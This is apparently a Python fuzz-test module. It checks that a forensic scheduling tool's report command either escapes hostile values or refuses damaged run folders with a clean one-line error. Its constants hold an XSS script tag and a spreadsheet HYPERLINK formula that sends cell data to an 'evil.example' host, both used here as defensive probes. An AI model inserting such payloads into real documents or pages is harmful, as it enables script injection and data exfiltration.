"""``dfu-sched report`` on broken run folders and JSON files (issue 9, "run folders given to report").

Users hand ``report`` folders that were edited, half-copied, made by another version or by someone
else. Whatever the damage, the contract is the same: exit 0 with a page that escapes every string
it shows and prints no "nan"/"inf", or exit 2 with one line naming the file (and the key path) and
never a traceback, a Python exception text, or a case reference of the plan.

The real outputs are made once per module (a 3-replication simulation, a 2-replication compare,
the example plan), then Hypothesis mutates copies of them. The normal suite runs few, derandomized
examples; ``DFU_FUZZ=long`` runs many more (the same variable the other fuzz suites read; the
profile is local to this module, no conftest).
"""
from __future__ import annotations

import json
import math
import os
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from dfu_sched.cli import main
from tests.helpers import ROOT

EXAMPLES = ROOT / "scenarios" / "examples"
BASELINE = ROOT / "scenarios" / "north_yorkshire_2022.yaml"
PRIORITY = ROOT / "scenarios" / "north_yorkshire_2022_priority.yaml"

LONG = os.environ.get("DFU_FUZZ") == "long"
# the normal suite: few fixed examples and no shrinking (a failure prints its inputs; re-run under
# DFU_FUZZ=long to shrink it)
FUZZ = settings(max_examples=300 if LONG else 5, deadline=None, derandomize=not LONG, database=None,
                phases=list(Phase) if LONG else [Phase.explicit, Phase.generate],
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = [None, float("nan"), float("inf"), -float("inf"), 1e308, 10 ** 400, 10 ** 16, -1, 0, True, "",
           SCRIPT, FORMULA, "<b>x</b>&amp;", [], {}, [SCRIPT], {"x": SCRIPT}, "2024-13-45", "NaN"]
INJECTED = ("<script", "<b>x</b>", "=HYPERLINK(")
PYTHON_TEXT = re.compile(r"Traceback|Error:|Exception|KeyError|TypeError|IndexError|ValueError|AttributeError"
                         r"|object has no attribute|not subscriptable|unsupported operand|NoneType")
NON_FINITE = re.compile(r">\s*-?(nan|inf|NaN|Infinity|None)\s*<|\bnan\b|\binf\b|Infinity")


def _run(args) -> tuple[int, str, str]:
    res = CliRunner().invoke(main, [str(a) for a in args])
    if res.exception is not None and not isinstance(res.exception, SystemExit):
        raise AssertionError(f"report raised {type(res.exception).__name__}: {res.exception}") from res.exception
    return res.exit_code, res.stdout, res.stderr


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Real outputs, made once: a simulation folder, a compare folder and a plan's JSON."""
    d = tmp_path_factory.mktemp("made")
    code, _, err = _run(["simulate", BASELINE, "-n", 3, "--seed", 1, "--out", d / "sim", "-q"])
    assert code == 0, err
    code, _, err = _run(["compare", BASELINE, PRIORITY, "-n", 2, "--seed", 1, "--workers", 1,
                         "--out", d / "cmp", "-q"])
    assert code == 0, err
    code, _, err = _run(["plan", EXAMPLES / "queue.csv", "--staff", EXAMPLES / "staff.csv", "--week", "2024-06-03",
                         "--out", d / "plan" / "plan.json"])
    assert code == 0, err
    doc = json.loads((d / "plan" / "plan.json").read_text(encoding="utf-8"))
    return {"sim": d / "sim", "cmp": d / "cmp", "plan": d / "plan", "refs": _references(doc)}


def _references(doc: dict) -> set[str]:
    """Every device, case and examiner reference the plan JSON holds (what no message may repeat)."""
    refs: set[str] = set()

    def walk(x, key=""):
        if isinstance(x, dict):
            for k, v in x.items():
                walk(v, k)
        elif isinstance(x, list):
            for v in x:
                walk(v, key)
        elif isinstance(x, str) and key in ("device_id", "case_id", "examiner_id", "examiner", "device", "case"):
            if len(x) >= 3:
                refs.add(x)

    walk(doc)
    return refs


MAIN_FILE = {"sim": "summary.json", "cmp": "compare.json", "plan": "plan.json"}


def _copy(made, kind: str, tmp: Path) -> Path:
    target = tmp / kind
    if target.exists():
        shutil.rmtree(target)
    shutil.copytree(made[kind], target)
    return target


def _paths(doc, prefix=()):
    """Every key path of a JSON document (dict keys and list indexes), the document itself first."""
    yield prefix
    if isinstance(doc, dict):
        for k, v in doc.items():
            yield from _paths(v, prefix + (k,))
    elif isinstance(doc, list):
        for i, v in enumerate(doc[:3]):
            yield from _paths(v, prefix + (i,))


def _parent(doc, path):
    for p in path[:-1]:
        doc = doc[p]
    return doc


def _mutate_json(doc, path, op: str, value):
    """``op`` at ``path``: replace the value, delete or rename the key, or add a key beside it."""
    if not path:
        return value if op == "replace" else doc
    parent, last = _parent(doc, path), path[-1]
    if op == "replace":
        parent[last] = value
    elif op == "delete":
        del parent[last]
    elif op == "rename" and isinstance(parent, dict):
        parent[f"{last}_{SCRIPT}"] = parent.pop(last)
    elif op == "add" and isinstance(parent, dict):
        parent[SCRIPT] = value
    elif op in ("rename", "add"):
        parent.append(value)
    return doc


def _dump(doc) -> str:
    return json.dumps(doc, allow_nan=True, default=str)


def check_report(target: Path, out: Path, refs: set[str], injected=INJECTED) -> int:
    """Run ``report``; assert the contract; return the exit code."""
    out.unlink(missing_ok=True)  # Hypothesis examples share tmp_path
    code, stdout, stderr = _run(["report", target, "-o", out, "-q"])
    assert code in (0, 2), f"exit {code}: {stderr}"
    if code == 2:
        lines = stderr.strip().splitlines()
        assert len(lines) == 1, stderr
        line = lines[0]
        assert line.startswith("error: "), line
        assert not PYTHON_TEXT.search(line.removeprefix("error: ").split(": ", 1)[-1]), line
        assert not any(s in line for s in injected), line
        assert not any(r in line for r in refs), line
        assert not out.exists(), "a failed report left its output"
    else:
        html = out.read_text(encoding="utf-8")
        assert FORMULA not in html, "unescaped injected text"  # escaped, its quotes are &quot;
        assert "<script" not in html.lower()
        assert "<b>x</b>" not in html
        body = re.sub(r"<style>.*?</style>", "", html, flags=re.S)
        text = re.sub(r"<[^>]+>", " ", body)
        assert not NON_FINITE.search(text), NON_FINITE.search(text).group(0)
        out.unlink()
    return code


# ---- the unbroken outputs give pages ---------------------------------------------------------------

@pytest.mark.parametrize("kind", ["sim", "cmp", "plan"])
def test_real_outputs_render(made, tmp_path, kind):
    target = _copy(made, kind, tmp_path)
    arg = target / "plan.json" if kind == "plan" else target
    assert check_report(arg, tmp_path / "r.html", made["refs"]) == 0


# ---- JSON values: wrong types, null, NaN, huge, hostile strings; keys dropped, renamed, added ------

@FUZZ
@given(kind=st.sampled_from(["sim", "cmp", "plan"]), pick=st.integers(0, 10 ** 6),
       op=st.sampled_from(["replace", "replace", "replace", "delete", "rename", "add"]),
       value=st.sampled_from(HOSTILE))
def test_json_mutations(made, tmp_path, kind, pick, op, value):
    target = _copy(made, kind, tmp_path)
    file = target / MAIN_FILE[kind]
    doc = json.loads(file.read_text(encoding="utf-8"))
    paths = list(_paths(doc))
    path = paths[pick % len(paths)]
    file.write_text(_dump(_mutate_json(doc, path, op, value)), encoding="utf-8")
    check_report(file if kind == "plan" else target, tmp_path / "r.html", made["refs"])


# ---- files: deleted, truncated, re-encoded, replaced by a folder ----------------------------------

FILE_OPS = ["delete", "truncate", "latin1", "bom", "folder", "list", "empty"]


@FUZZ
@given(kind=st.sampled_from(["sim", "cmp", "plan"]), pick=st.integers(0, 10 ** 6),
       op=st.sampled_from(FILE_OPS), cut=st.floats(0, 1))
def test_file_mutations(made, tmp_path, kind, pick, op, cut):
    target = _copy(made, kind, tmp_path)
    files = sorted(p for p in target.rglob("*") if p.is_file())
    file = files[pick % len(files)]
    data = file.read_bytes()
    if op == "delete":
        file.unlink()
    elif op == "truncate":
        file.write_bytes(data[: int(len(data) * cut)])
    elif op == "latin1":
        file.write_bytes(data.decode("utf-8").replace('"', '"\u00e9', 1).encode("latin-1", "replace") + b"\xe9\xff")
    elif op == "bom":
        file.write_bytes(b"\xef\xbb\xbf" + data)
    elif op == "folder":
        file.unlink()
        file.mkdir()
    elif op == "list":
        file.write_text("[1, 2, 3]", encoding="utf-8")
    elif op == "empty":
        file.write_bytes(b"")
    arg = target / "plan.json" if kind == "plan" and (target / "plan.json").is_file() else target
    check_report(arg, tmp_path / "r.html", made["refs"])


# ---- folders that are not run folders --------------------------------------------------------------

def test_empty_folder_and_weekly_only(made, tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    assert check_report(empty, tmp_path / "r.html", made["refs"]) == 2
    only = tmp_path / "only"
    only.mkdir()
    shutil.copyfile(made["sim"] / "weekly.csv", only / "weekly.csv")
    assert check_report(only, tmp_path / "r.html", made["refs"]) == 2


@pytest.mark.parametrize("kind", ["sim", "cmp", "plan"])
@pytest.mark.parametrize("content", ["[{\"kind\": \"simulation\"}]", "null"])
def test_json_that_is_not_an_object(made, tmp_path, kind, content):
    target = _copy(made, kind, tmp_path)
    (target / MAIN_FILE[kind]).write_text(content, encoding="utf-8")
    arg = target / "plan.json" if kind == "plan" else target
    assert check_report(arg, tmp_path / "r.html", made["refs"]) == 2


@pytest.mark.parametrize("kind", ["sim", "cmp"])
def test_main_json_is_a_folder(made, tmp_path, kind):
    target = _copy(made, kind, tmp_path)
    (target / MAIN_FILE[kind]).unlink()
    (target / MAIN_FILE[kind]).mkdir()
    assert check_report(target, tmp_path / "r.html", made["refs"]) == 2


def _plan_doc(made):
    return json.loads((made["plan"] / "plan.json").read_text(encoding="utf-8"))


FIELDS = ["devices.device", "devices.case", "devices.examiner", "examiners.examiner",
          "summary.infeasible_deadlines", "warnings", "inputs"]


@pytest.mark.parametrize("forged", [True, {"salt": SCRIPT}, {"key_fingerprint": "forged"},
                                    {"key_fingerprint": SCRIPT, "fields": FIELDS},
                                    {"key_fingerprint": "0" * 16, "fields": ["devices.device"]}])
def test_forged_pseudonymised_marker(made, tmp_path, forged):
    """A plan whose marker claims it was pseudonymised is either refused (the marker is not what
    ``plan --pseudonymise`` writes) or rendered; with ``--pseudonymise`` its real references must
    not reach the page unless the marker is genuine."""
    doc = _plan_doc(made)
    doc.setdefault("summary", {})
    doc["pseudonymised"] = forged
    doc["summary"]["pseudonymised"] = forged
    file = tmp_path / "plan.json"
    file.write_text(json.dumps(doc), encoding="utf-8")
    out = tmp_path / "r.html"
    code, _, stderr = _run(["report", file, "-o", out, "-q", "--pseudonymise", "--salt", "k"])
    assert code in (0, 2), stderr
    if code == 2:
        assert len(stderr.strip().splitlines()) == 1 and not any(r in stderr for r in made["refs"])
    else:
        html = out.read_text(encoding="utf-8")
        assert "<script" not in html.lower()
        leaked = [r for r in made["refs"] if r in html]
        assert not leaked, f"{len(leaked)} real references on a page asked to be pseudonymised"


def test_bad_json_names_file_and_key_path(made, tmp_path):
    """The loader names the file and the key path of the first problem."""
    target = _copy(made, "sim", tmp_path)
    doc = json.loads((target / "summary.json").read_text(encoding="utf-8"))
    doc["overall"]["wait_to_start_days"]["p50"]["estimate"] = "soon"
    (target / "summary.json").write_text(json.dumps(doc), encoding="utf-8")
    code, _, stderr = _run(["report", target, "-o", tmp_path / "r.html"])
    assert code == 2
    assert "summary.json: overall.wait_to_start_days.p50.estimate:" in stderr, stderr


def test_plan_bad_device_field_names_row_not_reference(made, tmp_path):
    doc = _plan_doc(made)
    ref = doc["devices"][0]["device_id"] if "device_id" in doc["devices"][0] else None
    doc["devices"][0]["tier"] = 7
    file = tmp_path / "plan.json"
    file.write_text(json.dumps(doc), encoding="utf-8")
    code, _, stderr = _run(["report", file, "-o", tmp_path / "r.html"])
    assert code == 2, stderr
    assert "plan.json: devices[0].tier:" in stderr, stderr
    assert ref is None or ref not in stderr


def test_nan_in_json_is_refused_with_key_path(made, tmp_path):
    target = _copy(made, "sim", tmp_path)
    text = (target / "summary.json").read_text(encoding="utf-8")
    doc = json.loads(text)
    doc["overall"]["wait_to_start_days"]["p50"]["estimate"] = math.nan
    (target / "summary.json").write_text(json.dumps(doc), encoding="utf-8")
    code, _, stderr = _run(["report", target, "-o", tmp_path / "r.html"])
    assert code == 2 and "overall.wait_to_start_days.p50.estimate" in stderr, stderr


def test_examiner_accreditation_text_never_reaches_the_page_raw(made, tmp_path):
    """The examiner heading printed ``accreditation`` unescaped: the loader requires a whole number."""
    doc = _plan_doc(made)
    doc["examiners"][0]["accreditation"] = SCRIPT
    file = tmp_path / "plan.json"
    file.write_text(json.dumps(doc), encoding="utf-8")
    assert check_report(file, tmp_path / "r.html", made["refs"]) == 2
